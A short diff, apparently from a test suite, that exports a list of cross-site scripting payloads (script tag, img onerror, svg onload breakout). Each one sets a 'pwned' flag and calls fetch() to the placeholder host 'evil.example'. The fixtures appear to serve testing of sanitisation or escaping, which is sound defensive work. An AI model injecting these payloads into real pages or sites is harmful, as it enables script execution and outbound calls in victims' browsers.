@@ -6,7 +6,7 @@ import { tableNames, tables } from '../../shared/contract/registry.ts';
 export const elsewhere = 'evil.example';
 
 const act = `self.pwned=1;fetch('http://${elsewhere}/')`;
-const payloads = [
+export const payloads = [
   `<script>${act}</script>`,
   `<img src=x onerror="${act}">`,
   `"><svg onload="${act}">`,
